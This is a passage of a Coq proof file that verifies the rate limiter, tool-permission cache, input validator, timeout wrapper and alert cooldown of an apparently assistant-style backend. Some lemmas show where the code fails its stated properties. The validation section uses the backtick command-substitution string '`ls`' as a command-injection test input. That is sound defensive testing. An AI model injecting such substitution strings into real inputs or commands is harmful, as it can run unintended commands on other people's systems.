  fst (attempts slowBurst (newTokenBucket USER_CAPACITY USER_REFILL_RATE 0)) !! 30%nat
    = Some allowedResult.
Proof.
  split; [reflexivity |].
  split; [cbn; lia |].
  split; [reflexivity |].
  vm_compute. reflexivity.
Qed.

(** C5 (amended): a freshly created bucket of whole capacity [c] and refill
    rate [r > 0] that receives [c + 1] attempts, at clock readings that
    never decrease, within a window shorter than [1 / r] seconds (first to
    last attempt) admits the first [c] and rejects the [(c+1)]th; the delay
    reported with the rejection is [ceil ((1 - tokens) / r)] for the token
    count at rejection, and is at least 1.  With capacity 30 and rate
    0.5/s the window is 2 seconds. *)
Theorem burst_overflow_rejected (c : nat) (r : Q) (t0 t1 : Z) (rest : list Z) :
  0 < r ->
  length rest = c ->
  nondecreasing t0 (t1 :: rest) ->
  inject_Z (List.last rest t1 - t1) / 1000 < 1 / r ->
  let run := attempts (t1 :: rest) (newTokenBucket (inject_Z (Z.of_nat c)) r t0) in
  let retry := Qceiling ((1 - tokens (snd run)) / r) in
  fst run = repeat allowedResult c ++ [mkResult false retry] /\ (1 <= retry)%Z.
Proof.
  intros Hr Hlen [Ht1 Hmono] Hwin. cbv zeta.
  set (b0 := newTokenBucket (inject_Z (Z.of_nat c)) r t0).
  assert (Hc0 : 0 <= inject_Z (Z.of_nat c)).
  { change 0 with (inject_Z 0). rewrite <- Zle_Qle. lia. }
  assert (Hretry : forall b', tokens b' < 1 -> (1 <= Qceiling ((1 - tokens b') / r))%Z).
  { intros b' Hb'. apply Qceiling_pos. apply Qlt_shift_div_l; lra. }
  pose proof (refill_le_capacity t1 b0) as Hle.
  assert (Hge : tokens b0 <= tokens (refill t1 b0)).
  { apply refill_ge; cbn [b0 newTokenBucket lastRefill refillRate tokens capacity];
      [exact Ht1 | lra | lra]. }
  cbn [b0 newTokenBucket tokens capacity] in Hle, Hge. fold b0 in Hle, Hge.
  destruct c as [| n].
  - destruct rest; [| discriminate]. cbn [attempts repeat app].
    change (inject_Z (Z.of_nat 0)) with 0 in Hle.
    assert (Hlt : tokens (refill t1 b0) < 1) by lra.
    rewrite (tryConsume_rejects _ _ Hlt). cbn [fst snd].
    split; [reflexivity | now apply Hretry].
  - destruct (exists_last (l := rest)) as (mid & tl & ->).
    { intros ->. discriminate. }
    rewrite List.length_app in Hlen. cbn in Hlen.
    assert (Hmid : length mid = n) by lia.
    rewrite last_last in Hwin.
    assert (HS : inject_Z (Z.of_nat (S n)) == inject_Z (Z.of_nat n) + 1).
    { rewrite Nat2Z.inj_succ. unfold Z.succ. rewrite inject_Z_plus. reflexivity. }
    assert (Hn0 : 0 <= inject_Z (Z.of_nat n)).
    { change 0 with (inject_Z 0). rewrite <- Zle_Qle. lia. }
    assert (H1 : 1 <= tokens (refill t1 b0)) by lra.
    cbn [attempts]. rewrite (tryConsume_allows _ _ H1).
    set (b1 := mkBucket (capacity b0) (refillRate b0) (tokens (refill t1 b0) - 1) t1).
    pose proof (window_rate _ _ Hr Hwin) as Hw.
    destruct (burst_then_reject n mid tl b1 Hmid Hmono) as (b' & Erun & Hb' & Hrate).
    + exact Hr.
    + cbn [b1 tokens capacity b0 newTokenBucket]. fold b0. lra.
    + cbn [b1 tokens lastRefill refillRate b0 newTokenBucket]. fold b0. lra.
    + rewrite Erun. cbn [fst snd repeat app].
      cbn [b1 refillRate b0 newTokenBucket] in Hrate.
      unfold rejectedResult. rewrite Hrate.
      split; [reflexivity | now apply Hretry].
Qed.

Lemma burst_overflow_rejected_witness :
  let ts := map (fun k => (60 * Z.of_nat k)%Z) (seq 0 31) in
  let run := attempts ts (newTokenBucket USER_CAPACITY USER_REFILL_RATE 0) in
  let retry := Qceiling ((1 - tokens (snd run)) / USER_REFILL_RATE) in
  fst run = repeat allowedResult 30 ++ [mkResult false retry] /\ (1 <= retry)%Z.
Proof.
  apply (burst_overflow_rejected 30 USER_REFILL_RATE 0 0
           (map (fun k => (60 * Z.of_nat k)%Z) (seq 1 30))).
  - reflexivity.
  - reflexivity.
  - cbn. lia.
  - reflexivity.
Defined.

(** C1, as stated, fails: caller 7 sends 31 updates at one clock reading.
    The per-caller bucket rejects the 31st, yet the global bucket, which
    held 70 tokens before that attempt (refill included), holds 69 after
    it. *)
Lemma user_rejection_costs_global_token :
  let st := snd (sendAll (repeat (constClock 0, Some 7%Z) 30) (initialState 0)) in
  let res := rateLimitMiddleware (constClock 0) (Some 7%Z) st in
  fst res = Rejected ScopeUser 2 /\
  tokens (refill 0 (globalBucket st)) == 70 /\
  tokens (globalBucket (snd res)) == 69 /\
  ~ tokens (globalBucket (snd res)) == tokens (refill 0 (globalBucket st)).
Proof.
  cbv zeta. split; [vm_compute; reflexivity |].
  split; [vm_compute; reflexivity |].
  split; [vm_compute; reflexivity |].
  intros H. vm_compute in H. discriminate H.
Qed.

(** C1 (amended): the global bucket is checked first, then the per-caller
    bucket.  When the global bucket rejects the attempt, it is only
    refilled and the per-caller buckets are not touched.  When the global
    bucket admits and the per-caller bucket rejects, the per-caller bucket
    is only refilled (no token taken from it), while the global bucket has
    given up exactly one token, which is not returned. *)
Theorem rejection_token_accounting (clk : Clock) (uid : option Z) (st : State) :
  match rateLimitMiddleware clk uid st with
  | (Rejected ScopeGlobal _, st') =>
      globalBucket st' = refill (tGlobal clk) (globalBucket st) /\
      userBuckets st' = userBuckets st
  | (Rejected ScopeUser _, st') =>
      exists id,
        uid = Some id /\
        tokens (globalBucket st')
          = tokens (refill (tGlobal clk) (globalBucket st)) - 1 /\
        userBuckets st' !! id
          = Some (refill (tUser clk)
                    (fst (getUserBucket (tCreate clk) id (userBuckets st))))
  | _ => True
  end.
Proof.
  unfold rateLimitMiddleware.
  destruct uid as [[| id | id] |]; try exact I.
  all: unfold tryConsume at 1;
    destruct (Qle_bool 1 (tokens (refill (tGlobal clk) (globalBucket st)))) eqn:Eg;
    cbn [allowed negb]; [| split; reflexivity].
  all: destruct (getUserBucket (tCreate clk) _ (userBuckets st)) as [u m1] eqn:Eu.
  all: unfold tryConsume;
    destruct (Qle_bool 1 (tokens (refill (tUser clk) u))) eqn:Ev;
    cbn [allowed negb getTokens]; [exact I |].
  all: eexists; split; [reflexivity |]; split; [reflexivity |].
  all: rewrite Eu; cbn [userBuckets fst]; apply lookup_insert_eq.
Qed.

End RateLimitFacts.

Module ToolPermissionFacts.
Import ToolPermission.

Lemma cacheLookup_invalidate now key w : cacheLookup now key (invalidate key w) = None.
Proof. unfold cacheLookup, invalidate; cbn. now rewrite lookup_delete_eq. Qed.

(** A check that misses the cache asks the store. *)
Lemma check_miss_asks tCheck tStore reply uid tool w :
  cacheLookup tCheck (cacheKey uid tool) w = None ->
  askedStore (eventsOf (checkToolPermission tCheck tStore reply uid tool w)) = true.
Proof.
  intros Hmiss. unfold checkToolPermission, checkBody. rewrite Hmiss.
  destruct reply; reflexivity.
Qed.

(** A check that asks the store has missed the cache. *)
Lemma check_asks_miss tCheck tStore reply uid tool w :
  askedStore (eventsOf (checkToolPermission tCheck tStore reply uid tool w)) = true ->
  cacheLookup tCheck (cacheKey uid tool) w = None.
Proof.
  unfold checkToolPermission, checkBody.
  destruct (cacheLookup tCheck (cacheKey uid tool) w); [discriminate | reflexivity].
Qed.

(** An entry that is not fresh at one clock reading is not fresh at a later one. *)
Lemma cacheLookup_later t t' key w :
  t <= t' -> cacheLookup t key w = None -> cacheLookup t' key w = None.
Proof.
  unfold cacheLookup, CACHE_TTL_MS. intros Hle.
  destruct (permissionCache w !! key); [| reflexivity].
  destruct (cacheTimestamps w !! key) as [c |]; [| reflexivity].
  destruct (c =? 0); cbn [negb andb]; [reflexivity |].
  destruct (t - c <? 60000) eqn:E; [discriminate |].
  intros _. apply Z.ltb_ge in E.
  destruct (t' - c <? 60000) eqn:E'; [| reflexivity].
  apply Z.ltb_lt in E'. lia.
Qed.

(** C2: when checkToolPermission sends its query to the allowlist store and
    the query fails, by an error in the reply or by a thrown exception, the
    function completes normally (nothing is thrown to the caller) and the
    value it returns is false, for every caller identity and tool name. *)
Theorem check_fails_closed (tCheck tStore : Z) (reply : StoreReply)
    (uid : Z) (tool : string) (w : World) :
  queryFailed reply ->
  askedStore (eventsOf (checkToolPermission tCheck tStore reply uid tool w)) = true ->
  returned (checkToolPermission tCheck tStore reply uid tool w) = Normal false.
Proof.
  intros Hfail Hasked. apply check_asks_miss in Hasked.
  unfold checkToolPermission, checkBody. rewrite Hasked.
  destruct reply; [destruct Hfail | reflexivity | reflexivity].
Qed.

Lemma check_fails_closed_witness :
  returned (checkToolPermission 1000 1001 (Threw "fetch failed") 42 "calendar_list" emptyWorld)
    = Normal false.
Proof.
  apply (check_fails_closed 1000 1001 (Threw "fetch failed") 42 "calendar_list" emptyWorld).
  - exact I.
  - reflexivity.
Defined.

(** C10, as stated, fails: the failed check leaves the cache as it was,
    stale entries included.  With an allow cached at clock reading 1, a
    check at reading 70000 finds the entry expired, asks the store, and is
    denied because the query errors; the next check of the same pair reads
    the clock at 70 (the wall clock was set back), finds the old entry
    fresh again and returns true without asking the store. *)
Lemma stale_entry_served_after_clock_setback :
  let failedCheck := checkToolPermission 70000 70001 (Failed "upstream timeout")
                       42 "calendar_list" staleWorld in
  let next := checkToolPermission 70 71 Served 42 "calendar_list"
                (worldAfter failedCheck) in
  askedStore (eventsOf failedCheck) = true /\
  returned failedCheck = Normal false /\
  askedStore (eventsOf next) = false /\
  returned next = Normal true.
Proof.
  vm_compute. repeat split.
Qed.

(** C10 (amended): when the allowlist query of checkToolPermission fails,
    the permission cache (values and timestamps) is exactly as before the
    call: the denial is returned without a cache write, and a following
    check of the same pair whose clock reading is not earlier than that of
    the failed check sends the query to the store again. *)
Theorem failed_check_leaves_cache (tCheck tStore : Z) (reply : StoreReply)
    (uid : Z) (tool : string) (w : World) :
  queryFailed reply ->
  askedStore (eventsOf (checkToolPermission tCheck tStore reply uid tool w)) = true ->
  let w' := worldAfter (checkToolPermission tCheck tStore reply uid tool w) in
  permissionCache w' = permissionCache w /\
  cacheTimestamps w' = cacheTimestamps w /\
  forall (tCheck' tStore' : Z) (reply' : StoreReply),
    tCheck <= tCheck' ->
    askedStore (eventsOf (checkToolPermission tCheck' tStore' reply' uid tool w')) = true.
Proof.
  intros Hfail Hasked. apply check_asks_miss in Hasked.
  assert (E : worldAfter (checkToolPermission tCheck tStore reply uid tool w) = w).
  { unfold checkToolPermission, checkBody. rewrite Hasked.
    destruct reply; [destruct Hfail | reflexivity | reflexivity]. }
  cbv zeta. rewrite E. split; [reflexivity |]. split; [reflexivity |].
  intros tCheck' tStore' reply' Hle.
  apply check_miss_asks. now apply (cacheLookup_later tCheck).
Qed.

Lemma failed_check_leaves_cache_witness :
  let w' := worldAfter (checkToolPermission 70000 70001 (Failed "upstream timeout")
                          42 "calendar_list" staleWorld) in
  permissionCache w' = permissionCache staleWorld /\
  cacheTimestamps w' = cacheTimestamps staleWorld /\
  forall (tCheck' tStore' : Z) (reply' : StoreReply),
    70000 <= tCheck' ->
    askedStore (eventsOf (checkToolPermission tCheck' tStore' reply' 42 "calendar_list" w')) = true.
Proof.
  apply (failed_check_leaves_cache 70000 70001 (Failed "upstream timeout")
           42 "calendar_list" staleWorld).
  - exact I.
  - vm_compute. reflexivity.
Defined.

Lemma rowGrants_upsert now who note old :
  rowGrants (Some (upsertGrant now who note old)) = true.
Proof. reflexivity. Qed.

Lemma rowGrants_revoked now who (data : option PermissionRow) :
  rowGrants (updateRevoke now who <$> data) = false.
Proof. destruct data; reflexivity. Qed.

(** C6: for every caller identity and tool name, a grant served by the
    store writes an allowing row, deletes the cache entry of the pair
    (value and timestamp) and returns true, and the check that follows
    reads the store and returns true; a revoke served by the store marks
    the row revoked, deletes the cache entry and returns true, and the
    check that follows returns false whatever the cache held before and
    however the store answers it. *)
Theorem grant_revoke_then_check (uid : Z) (tool : string) (w : World)
    (now : Z) (who : option Z) (note : option string) (tCheck tStore : Z) :
  (let g := grantToolPermission now Served uid tool who note w in
   g.1.1 = true /\
   rowGrants (tool_permissions g.1.2 !! (uid, tool)) = true /\
   permissionCache g.1.2 !! cacheKey uid tool = None /\
   cacheTimestamps g.1.2 !! cacheKey uid tool = None /\
   checkToolPermission tCheck tStore Served uid tool g.1.2
     = (Normal true,
        mkWorld (<[cacheKey uid tool := true]> (permissionCache g.1.2))
                (<[cacheKey uid tool := tStore]> (cacheTimestamps g.1.2))
                (tool_permissions g.1.2),
        [StoreQuery; CacheWrite true]))
  /\
  (let r := revokeToolPermission now Served uid tool who w in
   r.1.1 = true /\
   rowGrants (tool_permissions r.1.2 !! (uid, tool)) = false /\
   permissionCache r.1.2 !! cacheKey uid tool = None /\
   cacheTimestamps r.1.2 !! cacheKey uid tool = None /\
   forall reply : StoreReply,
     returned (checkToolPermission tCheck tStore reply uid tool r.1.2) = Normal false /\
     askedStore (eventsOf (checkToolPermission tCheck tStore reply uid tool r.1.2)) = true).
Proof.
  split; cbv zeta.
  - unfold grantToolPermission; cbn [fst snd].
    split; [reflexivity |].
    split; [cbn; now rewrite lookup_insert_eq |].
    split; [cbn; apply lookup_delete_eq |].
    split; [cbn; apply lookup_delete_eq |].
    unfold checkToolPermission, checkBody.
    rewrite cacheLookup_invalidate. cbn [tool_permissions invalidate].
    now rewrite lookup_insert_eq.
  - unfold revokeToolPermission; cbn [fst snd].
    split; [reflexivity |].
    split; [cbn; rewrite lookup_alter_eq; apply rowGrants_revoked |].
    split; [cbn; apply lookup_delete_eq |].
    split; [cbn; apply lookup_delete_eq |].
    intros reply. unfold checkToolPermission, checkBody, returned, eventsOf.
    rewrite cacheLookup_invalidate. cbn [tool_permissions invalidate].
    destruct reply; cbn [fst snd]; try (split; reflexivity).
    rewrite lookup_alter_eq, rowGrants_revoked. split; reflexivity.
Qed.

End ToolPermissionFacts.

Module ValidationFacts.
Import Validation.

(** C7: validateUserInput is meant to give the same verdict for the same
    arguments whatever was validated before.  The code does not: the
    command-injection patterns carry the [g] flag, so [test] leaves
    [lastIndex] behind.  Validating the four characters [`ls`] twice in a
    row with the default limit reports a command-injection violation the
    first time and none the second time. *)
Theorem repeated_validation_differs :
  let message := ofString "`ls`" in
  let first := validateUserInput message MAX_MESSAGE_LENGTH loadedPatterns in
  let second := validateUserInput message MAX_MESSAGE_LENGTH first.2 in
  isValid first.1 = false /\
  violations first.1 = ["Contains potential command injection patterns"] /\
  isValid second.1 = true /\
  violations second.1 = [] /\
  first.1 <> second.1.
Proof.
  cbv zeta.
  repeat split; try (vm_compute; reflexivity).
  intros H. apply (f_equal isValid) in H. vm_compute in H. discriminate H.
Qed.

(** The sanitized text is a function of the message and the limit alone. *)
Lemma sanitized_sanitizeOnly message maxLength st :
  sanitized (validateUserInput message maxLength st).1 = sanitizeOnly message maxLength.
Proof.
  unfold validateUserInput, sanitizeOnly.
  destruct (someTest (commandPatterns st) _) as [b1 c1].
  destruct (someTest (promptPatterns st) _) as [b2 c2].
  reflexivity.
Qed.

(** With no violation recorded, the message held no null character, fitted
    the limit, and was not blank. *)
Lemma violations_nil message maxLength st :
  violations (validateUserInput message maxLength st).1 = [] ->
  existsb (includes message) DANGEROUS_CHARS = false /\
  (maxLength <? Z.of_nat (length message))%Z = false.
Proof.
  unfold validateUserInput.
  destruct (existsb (includes message) DANGEROUS_CHARS) eqn:Enull.
  - destruct (someTest (commandPatterns st) _) as [b1 c1].
    destruct (someTest (promptPatterns st) _) as [b2 c2].
    cbn [fst violations]. discriminate.
  - destruct (someTest (commandPatterns st) _) as [b1 c1].
    destruct (someTest (promptPatterns st) _) as [b2 c2].
    cbn [fst violations app].
    destruct b1; [discriminate |]. destruct b2; [discriminate |].
    destruct (maxLength <? Z.of_nat (length message))%Z; [discriminate |].
    auto.
Qed.

Lemma trimStart_length str : (length (trimStart str) <= length str)%nat.
Proof.
  induction str as [| c str IH]; cbn; [lia |].
  destruct (isWhiteSpace c); cbn; lia.
Qed.

Lemma trimEnd_length str : (length (trimEnd str) <= length str)%nat.
Proof.
  induction str as [| c str IH]; cbn; [lia |].
  destruct (trimEnd str); [destruct (isWhiteSpace c) |]; cbn in *; lia.
Qed.

Lemma trim_length str : (length (trim str) <= length str)%nat.
Proof.
  unfold trim. pose proof (trimEnd_length (trimStart str)).
  pose proof (trimStart_length str). lia.
Qed.

Lemma trimStart_Forall (P : N -> Prop) str : Forall P str -> Forall P (trimStart str).
Proof.
  induction 1 as [| c str Hc Hs IH]; cbn; [constructor |].
  destruct (isWhiteSpace c); [exact IH | now constructor].
Qed.

Lemma trimEnd_Forall (P : N -> Prop) str : Forall P str -> Forall P (trimEnd str).
Proof.
  induction 1 as [| c str Hc Hs IH]; cbn; [constructor |].
  destruct (trimEnd str); [destruct (isWhiteSpace c) |]; try constructor; auto.
Qed.

Lemma includes_false_Forall str c :
  includes str c = false <-> Forall (fun x => x <> c) str.
Proof.
  unfold includes. induction str as [| x str IH]; cbn.
  - split; [constructor | reflexivity].
  - rewrite orb_false_iff, IH, Forall_cons_iff, N.eqb_neq. intuition congruence.
Qed.

Lemma trim_includes str c : includes str c = false -> includes (trim str) c = false.
Proof.
  rewrite !includes_false_Forall. intros H.
  now apply trimEnd_Forall, trimStart_Forall.
Qed.

Lemma trimEnd_idempotent str : trimEnd (trimEnd str) = trimEnd str.
Proof.
  induction str as [| c str IH]; cbn; [reflexivity |].
  destruct (trimEnd str) as [| k kept] eqn:E.
  - destruct (isWhiteSpace c) eqn:Ec; cbn; [reflexivity | now rewrite Ec].
  - cbn [trimEnd] in *. now rewrite IH.
Qed.

(** What [trimStart] returns is empty or begins with a character that is
    not white space. *)
Lemma trimStart_head str :
  match trimStart str with
  | [] => True
  | c :: _ => isWhiteSpace c = false
  end.
Proof.
  induction str as [| c str IH]; cbn; [exact I |].
  destruct (isWhiteSpace c) eqn:Ec; [exact IH | exact Ec].
Qed.

Lemma trimEnd_keeps_head c str :
  isWhiteSpace c = false -> exists kept, trimEnd (c :: str) = c :: kept.
Proof.
  intros Hc. cbn. destruct (trimEnd str); [rewrite Hc |]; eauto.
Qed.

Lemma trim_idempotent str : trim (trim str) = trim str.
Proof.
  unfold trim. pose proof (trimStart_head str) as Hh.
  destruct (trimStart str) as [| c rest]; [reflexivity |].
  destruct (trimEnd_keeps_head c rest Hh) as [kept E].
  rewrite E. cbn [trimStart]. rewrite Hh, <- E.
  apply trimEnd_idempotent.
Qed.

(** C8: when validating a text recorded no violation, validating the
    sanitized text it produced (same limit, whatever state the pattern
    objects are in by then) produces that same sanitized text. *)
Theorem sanitized_fixed_point (message : jsString) (maxLength : Z) (st st' : Patterns) :
  violations (validateUserInput message maxLength st).1 = [] ->
  sanitized
    (validateUserInput (sanitized (validateUserInput message maxLength st).1)
       maxLength st').1
  = sanitized (validateUserInput message maxLength st).1.
Proof.
  intros Hnil. apply violations_nil in Hnil as [Hnull Hfit].
  rewrite !sanitized_sanitizeOnly.
  assert (E : sanitizeOnly message maxLength = trim message).
  { unfold sanitizeOnly. now rewrite Hnull, Hfit. }
  rewrite E. unfold sanitizeOnly.
  assert (Hnull' : existsb (includes (trim message)) DANGEROUS_CHARS = false).
  { cbn in *. apply orb_false_iff in Hnull as [H0 _].
    now rewrite (trim_includes _ _ H0). }
  rewrite Hnull'.
  assert (Hfit' : (maxLength <? Z.of_nat (length (trim message)))%Z = false).
  { apply Z.ltb_ge. apply Z.ltb_ge in Hfit.
    pose proof (trim_length message). lia. }
  rewrite Hfit'. apply trim_idempotent.
Qed.

Lemma sanitized_fixed_point_witness :
  sanitized
    (validateUserInput
       (sanitized (validateUserInput (ofString "  what is on my calendar today?  ")
                     MAX_MESSAGE_LENGTH loadedPatterns).1)
       MAX_MESSAGE_LENGTH loadedPatterns).1
  = sanitized (validateUserInput (ofString "  what is on my calendar today?  ")
                 MAX_MESSAGE_LENGTH loadedPatterns).1.
Proof.
  apply (sanitized_fixed_point (ofString "  what is on my calendar today?  ")
           MAX_MESSAGE_LENGTH loadedPatterns loadedPatterns).
  vm_compute. reflexivity.
Defined.

End ValidationFacts.

Module TimeoutFacts.
Import Timeout.

(** C3: for every operation and every timeoutMs, an operation that settles
    strictly before timeoutMs has elapsed gives executeWithTimeout its own
    outcome, fulfilment or rejection, and the timer never runs; when
    timeoutMs elapses first, or the operation never settles, the call fails
    with the TimeoutError built from the message and timeoutMs; whenever the
    timer callback has run the result is that TimeoutError and not the
    operation's value; and in every case the timer is no longer pending at
    the end. *)
Theorem deadline_race {T : Type} (op : Operation T) (timeoutMs : N)
    (errorMessage : string) (opFirstOnTie : bool) :
  let run := executeWithTimeout op timeoutMs errorMessage opFirstOnTie in
  let timedOut := Some (Rejected (timeoutFailure errorMessage timeoutMs)) in
  (forall tick s, op = SettlesAt tick s -> (tick < timeoutMs)%N ->
     result run = Some s /\ timerRan run = false) /\
  (forall tick s, op = SettlesAt tick s -> (timeoutMs < tick)%N ->
     result run = timedOut) /\
  (op = NeverSettles -> result run = timedOut) /\
  (timerRan run = true -> result run = timedOut) /\
  timerPending run = false.
Proof.
  cbv zeta. unfold executeWithTimeout, schedule.
  repeat split.
  - subst op. apply N.ltb_lt in H0. now rewrite H0.
  - subst op. apply N.ltb_lt in H0. now rewrite H0.
  - intros tick s -> Hlt.
    destruct (tick <? timeoutMs)%N eqn:E; [apply N.ltb_lt in E; lia |].
    apply N.ltb_lt in Hlt. now rewrite Hlt.
  - now intros ->.
  - destruct op as [tick s |]; [| reflexivity].
    destruct (tick <? timeoutMs)%N; [discriminate |].
    destruct (timeoutMs <? tick)%N; [reflexivity |].
    destruct opFirstOnTie; [discriminate | reflexivity].
  - destruct op as [tick s |]; [| reflexivity].
    destruct (tick <? timeoutMs)%N; [reflexivity |].
    destruct (timeoutMs <? tick)%N; [reflexivity |].
    destruct opFirstOnTie; reflexivity.
Qed.

Lemma deadline_race_witness :
  result (executeWithTimeout (SettlesAt 29999 (Fulfilled "done")) 30000
            DEFAULT_TIMEOUT_MESSAGE true)
    = Some (Fulfilled "done") /\
  result (executeWithTimeout (SettlesAt 30001 (Fulfilled "done")) 30000
            DEFAULT_TIMEOUT_MESSAGE true)
    = Some (Rejected (TimeoutError "Operation timed out (30000ms)" 30000)).
Proof.
  split.
  - apply (proj1 (deadline_race (SettlesAt 29999 (Fulfilled "done")) 30000
                    DEFAULT_TIMEOUT_MESSAGE true) 29999%N (Fulfilled "done")).
    + reflexivity.
    + reflexivity.
  - apply (proj1 (proj2 (deadline_race (SettlesAt 30001 (Fulfilled "done")) 30000
                           DEFAULT_TIMEOUT_MESSAGE true)) 30001%N (Fulfilled "done")).
    + reflexivity.
    + reflexivity.
Defined.

End TimeoutFacts.

Module MonitoringFacts.
Import Monitoring.

Lemma triggerAlert_oneAlert c cd : oneAlert (c, (triggerAlert c cd).2).
Proof.
  unfold triggerAlert, oneAlert.
  destruct (inCooldown (cd !! alertType c) (now c)); cbn; auto.
Qed.

(** A call that fires is at least a cooldown after the stored reading. *)
Lemma triggerAlert_fires_late c cd last :
  (triggerAlert c cd).2 <> [] ->
  cd !! alertType c = Some last -> last <> 0 ->
  last + ALERT_COOLDOWN_MS <= now c.
Proof.
  unfold triggerAlert, inCooldown. intros Hf Hl Hz. rewrite Hl in Hf.
  apply Z.eqb_neq in Hz. rewrite Hz in Hf. cbn [negb andb] in Hf.
  destruct (now c - last <? ALERT_COOLDOWN_MS) eqn:E; [now cbn in Hf |].
  apply Z.ltb_ge in E. lia.
Qed.

(** From any cooldown map without a zero entry: every call does nothing or
    raises one alert, fired alerts of one type are a cooldown apart, and
    each fired alert is a cooldown after the reading the map held for its
    type. *)
Lemma triggerAll_invariant (calls : list AlertCall) : forall cd : gmap string Z,
  Forall (fun c => now c <> 0) calls ->
  map_Forall (fun _ t => t <> 0) cd ->
  Forall oneAlert (triggerAll calls cd) /\
  ForallOrdPairs separated (triggerAll calls cd) /\
  Forall (fun r => fired r -> forall last,
            cd !! alertType r.1 = Some last -> last + ALERT_COOLDOWN_MS <= now r.1)
    (triggerAll calls cd).
Proof.
  induction calls as [| c calls IH]; intros cd Hnz Hcd; cbn [triggerAll].
  - repeat split; constructor.
  - apply Forall_cons_iff in Hnz as [Hc Hnz].
    pose proof (triggerAlert_oneAlert c cd) as Hone.
    pose proof (triggerAlert_fires_late c cd) as Hlate.
    destruct (triggerAlert c cd) as [cd' effs] eqn:Et. cbn [snd] in Hone, Hlate.
    assert (Hcd' : map_Forall (fun _ t => t <> 0) cd').
    { unfold triggerAlert in Et.
      destruct (inCooldown (cd !! alertType c) (now c)); injection Et as <- <-.
      - exact Hcd.
      - now apply map_Forall_insert_2. }
    destruct (IH cd' Hnz Hcd') as (IH1 & IH2 & IH3).
    assert (Hstep : forall a, effs <> [] -> cd' !! a =
              if decide (alertType c = a) then Some (now c) else cd !! a).
    { intros a Hf. unfold triggerAlert in Et.
      destruct (inCooldown (cd !! alertType c) (now c)); injection Et as <- <-.
      - now destruct Hf.
      - apply lookup_insert. }
    assert (Hsame : effs = [] -> cd' = cd).
    { intros He. unfold triggerAlert in Et.
      destruct (inCooldown (cd !! alertType c) (now c)); injection Et as <- <-.
      - reflexivity.
      - discriminate He. }
    split; [| split].
    + constructor; assumption.
    + constructor; [| exact IH2].
      eapply Forall_impl; [exact IH3 |].
      intros r Hr Hf1 Hf2 Hty. cbn [fst snd] in *. unfold fired in Hf1. cbn in Hf1.
      apply (Hr Hf2 (now c)).
      rewrite (Hstep _ Hf1), <- Hty. now rewrite decide_True.
    + constructor.
      * intros Hf last Hl. cbn [fst snd] in *.
        apply (Hlate last Hf Hl). exact (Hcd _ _ Hl).
      * eapply Forall_impl; [exact IH3 |].
        intros r Hr Hf last Hl.
        destruct effs as [| e effs'] eqn:Ee.
        { apply (Hr Hf last). now rewrite (Hsame eq_refl). }
        assert (Hfc : e :: effs' <> []) by discriminate.
        specialize (Hstep (alertType r.1) Hfc).
        destruct (decide (alertType c = alertType r.1)) as [Heq | Hne].
        -- specialize (Hr Hf (now c) Hstep).
           rewrite <- Heq in Hl.
           pose proof (Hlate last Hfc Hl (Hcd _ _ Hl)). unfold ALERT_COOLDOWN_MS in *. lia.
        -- apply (Hr Hf last). now rewrite Hstep.
Qed.

(** C9: over any sequence of triggerAlert calls from the empty cooldown map
    (clock readings non-zero), each call either does nothing or raises one
    alert, which is one log line plus one audit record of type 'error'; and
    two alerts raised for the same alert type are at least the 5-minute
    cooldown apart on the clock, so no window shorter than the cooldown
    holds two of them however often the type is triggered. *)
Theorem alert_cooldown (calls : list AlertCall) :
  Forall (fun c => now c <> 0) calls ->
  Forall oneAlert (triggerAll calls ∅) /\
  ForallOrdPairs separated (triggerAll calls ∅).
Proof.
  intros Hnz.
  destruct (triggerAll_invariant calls ∅ Hnz) as (H1 & H2 & _).
  - apply map_Forall_empty.
  - split; assumption.
Qed.

Lemma alert_cooldown_witness :
  Forall oneAlert (triggerAll breachTwice ∅) /\
  ForallOrdPairs separated (triggerAll breachTwice ∅).
Proof.
  apply (alert_cooldown breachTwice).
  repeat constructor; cbn; lia.
Defined.

(** The same breach evaluated on two ticks a minute apart: one log line and
    one audit record in all. *)
Example breach_twice_one_alert :
  flat_map snd (triggerAll breachTwice ∅)
  = [LogWarn "🚨 ALERT [WARNING]: 7 tool timeouts in the last 5 minutes"
       [("count", 7%Q)];
     AuditLog error None "high_tool_timeouts" "7 tool timeouts in the last 5 minutes"
       [("count", 7%Q)] SevWarning].
Proof. vm_compute. reflexivity. Qed.

End MonitoringFacts.

(* ===================================================================== *)
(** ** Further properties of the admission controller                     *)
(* ===================================================================== *)

Module RateLimitMoreFacts.
Import RateLimit RateLimitAdmin RateLimitFacts.

Local Open Scope Q_scope.

Lemma elapsed_zero (t : Z) : inject_Z (t - t) / 1000 == 0.
Proof. rewrite Z.sub_diag. reflexivity. Qed.

Lemma elapsed_le (a b c : Z) :
  (b <= c)%Z -> inject_Z (b - a) / 1000 <= inject_Z (c - a) / 1000.
Proof.
  intros Hbc. rewrite (elapsed_split a b c).
  pose proof (elapsed_nonneg b c Hbc). lra.
Qed.

Lemma elapsed_seconds (a : Z) (k : Z) :
  inject_Z (a + 1000 * k - a) / 1000 == inject_Z k.
Proof.
  replace (a + 1000 * k - a)%Z with (1000 * k)%Z by lia.
  rewrite inject_Z_mult. change (inject_Z 1000) with 1000.
  unfold Qdiv. change (/ 1000) with (1 # 1000). ring.
Qed.

(** X1: the delay reported with a rejection is exact to the second.  For a
    bucket with one of the two configured parameter pairs that rejects an
    attempt and is left with a count that is not negative, the reported
    [retryAfterSeconds] is 1 or 2; an attempt made that many seconds after
    the rejection, or later, finds a token, while one made a second
    earlier than that, or before, is rejected again (no other attempt in
    between). *)
Theorem retry_delay_exact (now : Z) (b : TokenBucket) :
  configured b ->
  allowed (tryConsume now b).1 = false ->
  0 <= tokens (tryConsume now b).2 ->
  forall later : Z,
    let k := retryAfterSeconds (tryConsume now b).1 in
    let again := (tryConsume later (tryConsume now b).2).1 in
    (1 <= k <= 2)%Z /\
    ((now + 1000 * k <= later)%Z -> allowed again = true) /\
    ((later <= now + 1000 * (k - 1))%Z -> allowed again = false).
Proof.
  intros Hconf Hrej Hpos later. cbv zeta.
  assert (Hlt : tokens (refill now b) < 1).
  { destruct (Qlt_le_dec (tokens (refill now b)) 1) as [H | H]; [exact H |].
    rewrite (tryConsume_allows _ _ H) in Hrej. discriminate Hrej. }
  clear Hrej. rewrite (tryConsume_rejects _ _ Hlt) in *.
  cbn [fst snd rejectedResult retryAfterSeconds] in *.
  assert (Hr : 1 # 2 <= refillRate b /\ 1 <= capacity b).
  { destruct Hconf as [[-> ->] | [-> ->]]; split; vm_compute; discriminate. }
  destruct Hr as [Hr Hcap].
  set (tok := tokens (refill now b)) in *.
  set (x := (1 - tok) / refillRate (refill now b)).
